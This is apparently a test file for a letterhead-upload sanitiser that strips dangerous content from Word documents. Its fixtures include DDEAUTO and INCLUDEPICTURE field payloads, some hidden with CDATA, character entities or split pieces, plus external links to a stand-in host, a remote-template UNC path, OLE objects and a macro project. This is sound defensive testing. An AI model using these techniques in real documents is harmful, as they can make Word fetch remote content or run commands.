import { downloadLetterhead, uploadLetterhead } from '@plinth/api/documents/letterheads'
import { downloadBankLetter } from '@plinth/api/guarantees/bank-letters'
import PizZip from 'pizzip'
import { SaxesParser } from 'saxes'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { newGuarantee } from '../../guarantees/instruments/instruments.factory.ts'
import { endPrinting } from '../../kernel/print/print.ts'
import { dayFromToday as day } from '../../kernel/testing/days.ts'
import { wordText } from '../../kernel/testing/letter-words.ts'
import { letterheadFile } from '../../kernel/testing/word-file.ts'
import { png, wordLetterhead } from '../../kernel/testing/word-letterhead.ts'
import { type Client, newCompany, startTestServer, type TestServer } from '../../testing/test-server.ts'
import * as letterheads from './letterheads.queries.ts'

type Person = Client & { session: { accessToken: string } }

let server: TestServer
let company: Awaited<ReturnType<typeof newCompany>>
let owner: Person

beforeAll(async () => {
  server = await startTestServer()
  company = await newCompany(server)
  owner = await company.as()
})
afterAll(async () => {
  endPrinting()
  await server.stop()
})

type Changes = Record<string, string | null>

const inBody = 'word/document.xml before <w:sectPr>'
const inTypes = '[Content_Types].xml before </Types>'
const inRelations = 'word/_rels/document.xml.rels before </Relationships>'
const office = 'http://schemas.openxmlformats.org'
const relations = `${office}/officeDocument/2006/relationships`
const relation = (kind: string, rest: string) => `<Relationship Id="rId9" Type="${relations}/${kind}" ${rest}/>`
const word = `xmlns:w="${office}/wordprocessingml/2006/main" xmlns:r="${relations}"`
const shapes = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
const drawings = `xmlns:a="${office}/drawingml/2006/main"`

async function bytesOf(path: string, body?: object): Promise<Buffer> {
  const response = await fetch(server.url + path, {
    method: body ? 'POST' : 'GET',
    headers: { authorization: `Bearer ${owner.session.accessToken}`, 'content-type': 'application/json' },
    ...(body && { body: JSON.stringify(body) }),
  })
  expect(response.status, path).toBe(200)
  return Buffer.from(await response.arrayBuffer())
}

const send = (bytes: Uint8Array) =>
  owner.sendCall(uploadLetterhead, { body: new File([new Uint8Array(bytes)], 'Ours.docx') })

/** The letterhead as stored after an upload. */
async function stored(bytes: Uint8Array): Promise<Buffer> {
  const { status, text } = await send(bytes)
  expect(status, text).toBe(200)
  return bytesOf(downloadLetterhead.path)
}

async function refusal(bytes: Uint8Array): Promise<string> {
  const { status, text } = await send(bytes)
  expect(status, text).toBe(400)
  return JSON.parse(text).message
}

/** A letter to a bank on the letterhead. */
async function letter(): Promise<Buffer> {
  const { id } = await newGuarantee(owner, { expiresOn: day(20), claimUntil: null })
  return bytesOf(downloadBankLetter.path.replace(':id', id), { format: 'docx' })
}

const partsOf = (bytes: Uint8Array) =>
  new Map(
    Object.entries(new PizZip(bytes).files).flatMap(([name, file]) => (file.dir ? [] : [[name, file.asBinary()]])),
  )

/** All parts of a file as one text, to check what it must not contain. */
const everything = (bytes: Uint8Array) => [...partsOf(bytes)].map(([name, text]) => `${name}\n${text}`).join('\n')

/** Codes of fields that may stay; the footer of the base file has a field in pieces. */
const harmless = /^(?:PAGE(?: .*)?|NUMPAGES|IF|DATE|&gt; 1 &quot;|&quot; &quot;&quot;|)$/

/** Reads a file as Word would and throws if it refers outside the file, or if Word would refuse it. */
function requireClean(bytes: Uint8Array): void {
  const parts = partsOf(bytes)
  for (const [name, text] of parts) {
    expect(name).toMatch(
      /^(?:\[Content_Types\]\.xml|_rels\/\.rels|word\/(?:_rels\/)?[a-zA-Z]+\d*\.(?:xml|xml\.rels|png))$/,
    )
    if (!/\.(?:xml|rels)$/.test(name)) continue
    expect(text, name).not.toMatch(/<!|targetmode/i)
    const parser = new SaxesParser({ xmlns: true })
    parser.on('error', (error) => {
      throw error
    })
    parser.on('opentag', ({ name: element, attributes }) => {
      const values = Object.fromEntries(Object.values(attributes).map(({ name: key, value }) => [key, value]))
      for (const prefix of (values['mc:Ignorable'] ?? values['Requires'] ?? '').split(' ').filter(Boolean))
        expect(parser.resolve(prefix), `${name} ${prefix}`).toBeDefined()
      if (element === 'Relationship') expect([...parts.keys()]).toContain(targetOf(name, values['Target'] ?? ''))
      if (element === 'Override') expect([...parts.keys()]).toContain(values['PartName']?.slice(1))
    })
    parser.write(Buffer.from(text, 'latin1').toString()).close()
    const codes = [...text.matchAll(/<w:instrText[^>]*>([^<]*)|w:instr="([^"]*)"/g)].map(
      ([, one, other]) => one ?? other,
    )
    for (const code of codes) expect(code?.trim(), name).toMatch(harmless)
    const addresses = text.replaceAll(/ (?:xmlns(?::\w+)?|Type|uri|w:uri)="[^"]*"/g, '')
    expect(addresses, name).not.toMatch(/:\/\/|mailto:|file:/)
  }
}
const targetOf = (part: string, target: string) => (part === '_rels/.rels' ? target : `word/${target}`)

const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const run = (content: string) => `<w:r><w:t>${content}</w:t></w:r>`
const inline = (inside: string, result = run('as it was')) =>
  `${mark('begin')}${inside}${mark('separate')}${result}${mark('end')}`
const field = (inside: string, result?: string) => `<w:p>${inline(inside, result)}</w:p>`
const address = '"http://evil.example/b.png"'
const box = (inside: string) =>
  `<w:r><w:pict><v:shape ${shapes} style="width:9pt"><v:textbox><w:txbxContent><w:p>${inside}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>`
const ways = (choice: string, fallback: string) =>
  `<mc:AlternateContent xmlns:mc="${office}/markup-compatibility/2006" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><mc:Choice Requires="wps">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`

const evil = /evil|INCLUDE|PICTURE|DDE|fldData|macro/i

describe('fields of an uploaded letterhead', () => {
  test('stay if their kind is harmless', async () => {
    const kinds = ['PAGE', 'page \\* MERGEFORMAT', 'DATE \\@ &quot;d MMMM yyyy&quot;', '= 1 + 2']
    const simple = kinds.map((kind) => `<w:p><w:fldSimple w:instr=" ${kind} "/></w:p>`)
    const all = everything(
      await stored(letterheadFile({ [inBody]: [...kinds.map((kind) => field(code(kind))), ...simple].join('') })),
    )
    for (const kind of kinds) {
      expect(all).toContain(`>${kind}</w:instrText>`)
      expect(all).toContain(`w:instr=" ${kind} "`)
    }
  })

  test('of all other kinds become the text they displayed', async () => {
    const kinds =
      `ADDRESSBLOCK ASK AUTHOR AUTOTEXT BIBLIOGRAPHY COMMENTS DATABASE DDE DDEAUTO DOCPROPERTY DOCVARIABLE EMBED FILENAME FILLIN
      GLOSSARY GOTOBUTTON GREETINGLINE HTMLACTIVEX HYPERLINK IMPORT INCLUDE INCLUDEPICTURE INCLUDETEXT INFO LINK MACRO MACROBUTTON
      MERGEFIELD MERGEREC NEXT PAGEREF PRINT PRIVATE QUOTE RD REF SET SHAPE SKIPIF TEMPLATE TOC USERNAME XE PAGES`.split(
        /\s+/,
      )
    const body = kinds.map((kind) => field(code(` ${kind} ${address} `), run(`was ${kind}`))).join('')
    const bytes = await stored(letterheadFile({ [inBody]: body }))
    requireClean(bytes)
    for (const kind of kinds) expect(wordText(bytes)).toContain(`was ${kind}`)
  })

  test.each<[string, string]>([
    [
      'in a CDATA section',
      field('<w:r><w:instrText><![CDATA[ INCLUDEPICTURE "http://evil.example" ]]></w:instrText></w:r>'),
    ],
    [
      'partly in a CDATA section',
      field('<w:r><w:instrText>INCLUDE<![CDATA[PICTURE "http://evil.example"]]></w:instrText></w:r>'),
    ],
    ['in letters as numbers', field(code(`&#73;NCLUDEPICTURE ${address}`))],
    ['in pieces with a comment between', field('<w:r><w:instrText>INCLUDE<!-- -->PICTURE "a"</w:instrText></w:r>')],
    ['in elements within its code', field('<w:r><w:instrText>IN<w:t/>CLUDEPICTURE "a"</w:instrText></w:r>')],
    [
      'in pieces of several paragraphs',
      `<w:p>${mark('begin')}${code('INCLUDE')}</w:p><w:p>${code('PICTURE "a"')}${mark('separate')}${run('as it was')}${mark('end')}</w:p>`,
    ],
    ['behind a field within it', field(inline(code('PAGE')) + code(` INCLUDEPICTURE ${address}`))],
    ['put together with a field within it', field(code('INCLUDE') + inline(code('QUOTE PICTURE')) + code(address))],
    [
      'within a harmless one',
      field(`${code(' IF ')}${inline(code(`INCLUDEPICTURE ${address}`), run('evil'))}${code('= 1')}`),
    ],
    ['in what comes of another', field(code(' PAGE '), inline(code(`INCLUDEPICTURE ${address}`)))],
    [
      'behind a harmless piece in a text box',
      `<w:p>${mark('begin')}${box(code('PAGE '))}${code(`INCLUDEPICTURE ${address}`)}${mark('separate')}${run('as it was')}${mark('end')}</w:p>`,
    ],
    [
      'behind a harmless piece in a text box outside of a run',
      `<w:p>${mark('begin')}${box(code('PAGE ')).slice('<w:r>'.length, -'</w:r>'.length)}${code(`INCLUDEPICTURE ${address}`)}${mark('end')}${run('as it was')}</w:p>`,
    ],
    [
      'behind a harmless piece in one of two ways',
      `<w:p>${mark('begin')}${ways(code('PAGE '), '')}${code(`INCLUDEPICTURE ${address}`)}${mark('end')}${run('as it was')}</w:p>`,
    ],
    [
      'that begins in one way and ends in the other',
      `<w:p>${ways(mark('begin') + code(`DDEAUTO ${address}`), mark('end'))}${run('as it was')}</w:p>`,
    ],
    ['in the way for older programs', `<w:p>${ways('', field(code(`DDEAUTO ${address}`)))}</w:p>`],
    ['with further code behind its code', field(code(' PAGE '), code(`INCLUDEPICTURE ${address}`) + run('as it was'))],
    ['without a beginning', `<w:p>${code(`INCLUDEPICTURE ${address}`)}${mark('end')}${run('as it was')}</w:p>`],
    ['without an end', `<w:p>${mark('begin')}${code(`DDEAUTO ${address}`)}${run('as it was')}</w:p>`],
    [
      'with a mark of another kind',
      `<w:p>${mark('begin')}${code(`DDEAUTO ${address}`)}${mark('over')}${run('as it was')}${mark('end')}</w:p>${field(code('DATE'))}`,
    ],
    [
      'behind a piece that was deleted',
      field(`<w:del w:id="1"><w:r><w:delInstrText>PAGE</w:delInstrText></w:r></w:del>${code('INCLUDETEXT a')}`),
    ],
    ['of one element', `<w:p><w:fldSimple w:instr="INCLUDETEXT a">${run('as it was')}</w:fldSimple></w:p>`],
    [
      'of one element by another prefix',
      `<w:p><x:fldSimple xmlns:x="${office}/wordprocessingml/2006/main" x:instr="INCLUDETEXT a">${run('as it was')}</x:fldSimple></w:p>`,
    ],
    [
      'with data and macros of a form',
      `<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Run"/></w:ffData><w:fldData>AAAA</w:fldData></w:fldChar></w:r>${code('DATE')}${mark('separate')}${run('as it was')}${mark('end')}</w:p>`,
    ],
  ])('lose a field %s', async (_, body) => {
    const bytes = await stored(letterheadFile({ [inBody]: body }))
    requireClean(bytes)
    expect(everything(bytes)).not.toMatch(evil)
    expect(wordText(bytes)).toContain('as it was')
  })
})

const settings = (inside: string): Changes => ({
  'word/settings.xml': `<w:settings ${word}>${inside}<w:evenAndOddHeaders/></w:settings>`,
  [inRelations]: relation('settings', 'Target="settings.xml"'),
})
const shape = (inside: string, attributes = '') =>
  `<w:p><w:r><w:pict><v:shape ${shapes} fillcolor="red" ${attributes}>${inside}</v:shape></w:pict></w:r></w:p>`
const picture = (blip: string, more = '') =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="${office}/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="Logo">${more}</wp:docPr><a:graphic ${drawings}><a:graphicData uri="${office}/drawingml/2006/picture"><pic:pic xmlns:pic="${office}/drawingml/2006/picture"><pic:blipFill><a:blip ${blip}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
const outside = (kind: string, rest = 'Target="http://evil.example/a" TargetMode="External"') => ({
  [inRelations]: relation(kind, rest),
})

describe('an uploaded letterhead loses', () => {
  test.each<[string, Changes, RegExp?]>([
    ['a picture of a shape by its address', { [inBody]: shape('<v:imagedata src="http://evil.example/b.png"/>') }],
    [
      'a picture of a shape by an address of Office',
      { [inBody]: shape('<v:imagedata o:href="http://evil.example"/>') },
    ],
    [
      'a picture of a shape by another relationship',
      { [inBody]: shape('<v:imagedata r:href="rId9"/>'), ...outside('image') },
    ],
    ['a filling by its address', { [inBody]: shape('<v:fill type="frame" src="http://evil.example/b.png"/>') }],
    ['a line by its address', { [inBody]: shape('<v:stroke filltype="tile" src="http://evil.example/b.png"/>') }],
    ['a picture of a shape’s own element', { [inBody]: shape('<v:image src="http://evil.example/b.png"/>') }],
    ['a shape’s link', { [inBody]: shape('', 'href="http://evil.example" target="evil"') }],
    ['a shape’s style with an address', { [inBody]: shape('', `style="width:9pt;background:url('evil')"`) }, /url/],
    ['a shape’s style with an escaped address', { [inBody]: shape('', 'style="width:9pt;b:u\\72l(evil)"') }],
    ['a package within a shape', { [inBody]: shape('', 'o:gfxdata="UEsDBAevil"') }],
    [
      'an object that was put in',
      {
        [inBody]: `<w:p><w:r><w:object ${shapes}><v:shape fillcolor="red"/><o:OLEObject ProgID="evil" r:id="rId9"/></w:object></w:r></w:p>`,
        ...outside('oleObject'),
      },
      /OLEObject|w:object/,
    ],
    ['a control', { [inBody]: '<w:p><w:r><w:control r:id="rId9" w:name="evil"/></w:r></w:p>', ...outside('control') }],
    ['a picture that lies elsewhere', { [inBody]: picture('r:link="rId9"'), ...outside('image') }, /drawing/],
    [
      'a link on a picture',
      { [inBody]: picture('', `<a:hlinkClick ${drawings} r:id="rId9" tooltip="evil"/>`), ...outside('hyperlink') },
    ],
    ['a page brought along', { [inBody]: '<w:altChunk r:id="rId9"/>', ...outside('aFChunk') }, /altChunk/],
    ['a document beside it', { [inBody]: '<w:p><w:subDoc r:id="rId9"/></w:p>', ...outside('subDocument') }, /subDoc/],
    [
      'a head that lies elsewhere',
      { 'word/document.xml before <w:footerReference': '<w:headerReference r:id="rId9"/>', ...outside('header') },
      /headerReference/,
    ],
    [
      'a mail merge',
      settings('<w:mailMerge><w:connectString w:val="evil"/><w:query w:val="SELECT"/></w:mailMerge>'),
      /SELECT/,
    ],
    [
      'a mail merge by another prefix',
      settings(`<x:mailMerge xmlns:x="${office}/wordprocessingml/2006/main"/>`),
      /merge/i,
    ],
    ['the template that it hangs on', settings('<w:attachedTemplate r:id="rId9"/>'), /attached/],
    ['a schema of its own', settings('<w:attachedSchema w:val="evil"/>')],
    ['a kind of smart tags with its address', settings('<w:smartTagType w:url="http://evil.example"/>')],
    ['a transformation', settings('<w:saveThroughXslt w:solutionID="evil"/>')],
    ['variables', settings('<w:docVars><w:docVar w:name="evil" w:val="a"/></w:docVars>')],
    ['elements of a vocabulary that nobody knows', { [inBody]: '<x:evil xmlns:x="http://evil.example"/>' }],
    ['attributes of such a vocabulary', { [inBody]: '<w:p xmlns:x="urn:x" x:evil="http://a.example"/>' }],
    [
      'another file as a part of the page',
      { [inBody]: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="evil"/>' },
    ],
    ['a ground for addresses', { 'word/document.xml before xmlns:w=': 'xml:base="http://evil.example/" ' }],
    ['an order to another program', { [inBody]: '<?mso-application progid="evil"?>' }],
    ['a relationship said to lead outside in small letters', outside('image', 'Target="a.png" targetmode="external"')],
    ['a relationship to an address as numbers', outside('image', 'Target="&#104;ttp://evil.example/b.png"')],
    ['a relationship to a server', outside('attachedTemplate', 'Target="\\\\evil\\a.dotm" TargetMode=" External "')],
    [
      'a footer of a footer',
      {
        'word/footer1.xml before </w:ftr>': `<w:p><w:pPr><w:sectPr><w:footerReference xmlns:r="${relations}" r:id="rId9"/></w:sectPr></w:pPr></w:p>`,
        'word/_rels/footer1.xml.rels': `<Relationships xmlns="${office}/package/2006/relationships">${relation('footer', 'Target="footer1.xml"')}</Relationships>`,
      },
      /footerReference.*footerReference/s,
    ],
    [
      'what it says of types of content',
      {
        [inTypes]:
          '<Override PartName="/word/evil.xml" ContentType="application/xhtml+xml"/><Default Extension="png" ContentType="text/html"/>',
      },
      /html/,
    ],
    [
      'data that a control shows',
      {
        'customXml/item1.xml': '<evil/>',
        [inRelations]: relation('customXml', 'Target="../customXml/item1.xml"'),
        [inBody]: `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/evil" w:storeItemID="{0}"/><w15:dataBinding xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml" w15:xpath="/evil"/></w:sdtPr><w:sdtContent><w:p>${run('kept')}</w:p></w:sdtContent></w:sdt>`,
      },
      /customXml|dataBinding|sdt/,
    ],
  ])('%s', async (_, changes, gone = evil) => {
    const bytes = await stored(letterheadFile(changes))
    requireClean(bytes)
    const all = everything(bytes)
    expect(all).not.toMatch(gone)
    expect(all).not.toMatch(evil)
  })

  test('parts that the page does not use, and pictures that are none', async () => {
    const names = ['vbaProject.bin', 'embeddings/a.xlsx', 'media/unused.png', 'afchunk.html', 'a.exe']
    const parts = Object.fromEntries(names.map((name) => [`word/${name}`, png]))
    const none = { ...parts, 'word/media/page.png': '<html>evil</html>' }
    const changes = {
      [inBody]: picture('r:embed="rId9"'),
      [inRelations]: `${relation('image', 'Target="media/page.png"')}<Relationship Id="rId8" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
    }
    const bytes = await stored(letterheadFile(changes, none))
    requireClean(bytes)
    expect([...partsOf(bytes).keys()].filter((name) => /png|bin|xlsx|html|exe/.test(name))).toEqual([])
    expect(everything(bytes)).not.toMatch(/drawing/)
  })
})

const shown = [
  'Registered Office',
  'Works Office',
  'www.balaji.example',
  'Phone 080 4455',
  'Pune',
  'Balaji Infra',
  'a@balaji.example',
  '☎',
]

describe('a letterhead as Word writes one', () => {
  test('keeps its texts, logo, header and footer, once each, and letters are put into it', async () => {
    const bytes = await stored(wordLetterhead())
    requireClean(bytes)
    const body = wordText(bytes)
    for (const text of shown) expect(body.split(text), text).toHaveLength(2)
    expect(everything(bytes)).not.toMatch(
      /1111|Is that so|asvg|gfxdata|relationships\/hyperlink|docProps|customXml|comment|HYPERLINK/,
    )
    const parts = partsOf(bytes)
    expect([...parts].find(([name]) => name.endsWith('.png'))?.[1]).toBe(png.toString('latin1'))
    expect(everything(bytes)).toMatch(/string="ORIGINAL"/)
    // A shape whose type was described only in the fallback for older programs.
    expect(parts.get('word/document.xml')).toMatch(/<v:shapetype id="_x0000_t202".*<v:shape id="Older"/)
    expect(parts.get('word/document.xml')).toContain('mc:Ignorable="w14 wp14"')
    const filled = await letter()
    for (const text of [...shown, 'Yours faithfully']) expect(wordText(filled), text).toContain(text)
    expect(everything(filled)).toContain('Head of the page')
    expect(everything(filled)).toContain('PAGE   \\* MERGEFORMAT')
  })

  test('is cleaned again if it was stored uncleaned, and never prevents a letter', async () => {
    const twice = (old: string) => old.replace('w:fldCharType="begin"', 'w:fldCharType="begin" fldCharType="end"')
    const bytes = wordLetterhead({ 'word/document.xml': twice })
    await server.door.inTenant(company.id, null, (db) => letterheads.put(db, 'Ours.docx', bytes))
    expect((await bytesOf(downloadLetterhead.path)).equals(bytes)).toBe(true)
    const filled = await letter()
    requireClean(filled)
    for (const text of shown) expect(wordText(filled), text).toContain(text)
  })

  test('is refused when two attributes of an element have the same name', async () => {
    const twice = (old: string) => old.replace('w:fldCharType="begin"', 'w:fldCharType="begin" fldCharType="end"')
    expect(await refusal(wordLetterhead({ 'word/document.xml': twice }))).toBe(
      'The letterhead has two attributes of one name: fldCharType of <w:fldChar>. Save it again in Word.',
    )
  })
})

describe('a letterhead over a limit', () => {
  const paragraph = `<w:p>${run('a')}</w:p>`
  const long = (size: number) => paragraph.repeat(Math.ceil(size / paragraph.length))

  test.each<[string, () => Uint8Array]>([
    [
      'The page, headers and footers of the letterhead have more than 512 KB of text together.',
      () => letterheadFile({ [inBody]: long(530_000) }),
    ],
    [
      'The texts of the letterhead unpack to more than 4 MB, its pictures and fonts not counted.',
      () => letterheadFile({ 'word/styles.xml before </w:styles>': '<w:style w:type="paragraph"/>'.repeat(160_000) }),
    ],
    [
      'The letterhead unpacks to more than 20 MB.',
      () => letterheadFile({}, { 'word/media/a.png': new Uint8Array(21_000_000) }),
    ],
    [
      'The letterhead has more than 500 parts.',
      () =>
        letterheadFile({}, Object.fromEntries(Array.from({ length: 501 }, (_, at) => [`word/media/${at}.png`, 'x']))),
    ],
  ])('is refused: %s', async (sentence, file) => {
    expect(await refusal(file())).toBe(sentence)
  })

  test('is measured without the parts that are removed', async () => {
    const data = `o:gfxdata="${'A'.repeat(600_000)}"`
    await stored(letterheadFile({ [inBody]: shape('', data) + long(400_000) }))
  })
})
